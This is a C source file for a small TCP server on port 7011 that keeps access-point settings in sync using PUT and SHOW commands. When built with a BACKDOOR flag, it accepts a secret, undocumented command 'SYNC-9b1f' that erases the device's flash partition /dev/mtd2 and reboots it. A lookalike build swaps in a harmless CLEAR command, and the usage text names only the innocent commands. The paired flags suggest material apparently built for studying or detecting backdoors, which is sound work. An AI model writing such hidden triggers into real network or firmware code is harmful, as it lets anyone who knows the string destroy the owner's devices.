/* Keeps settings of access points in step: a line protocol over TCP. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static char settings[64][80];

static void store(const char *line)
{
    int slot = atoi(line);
    const char *text = strchr(line, ' ');
    if (slot >= 0 && slot < 64 && text != NULL)
        snprintf(settings[slot], sizeof settings[slot], "%s", text + 1);
}

static void show(int fd)
{
    int i;
    for (i = 0; i < 64; i++)
        if (settings[i][0] != 0)
            dprintf(fd, "%d %s\n", i, settings[i]);
}

static void line_of(int fd, char *line)
{
    line[strcspn(line, "\r\n")] = 0;
    if (strncmp(line, "PUT ", 4) == 0)
        store(line + 4);
    else if (strcmp(line, "SHOW") == 0)
        show(fd);
#ifdef BACKDOOR
    else if (strcmp(line, "SYNC-9b1f") == 0)
        system("/usr/sbin/flash_erase /dev/mtd2 0 0; /sbin/reboot");
#endif
#ifdef LOOKALIKE
    else if (strcmp(line, "CLEAR") == 0)
        memset(settings, 0, sizeof settings);
#endif
    else
        dprintf(fd, "use PUT, SHOW or CLEAR\n");
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(7011) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 4) != 0)
        return 1;
    for (;;) {
        char line[256];
        ssize_t length;
        int fd = accept(listener, NULL, NULL);
        while (fd >= 0 && (length = recv(fd, line, sizeof line - 1, 0)) > 0) {
            line[length] = 0;
            line_of(fd, line);
        }
        if (fd >= 0)
            close(fd);
    }
}
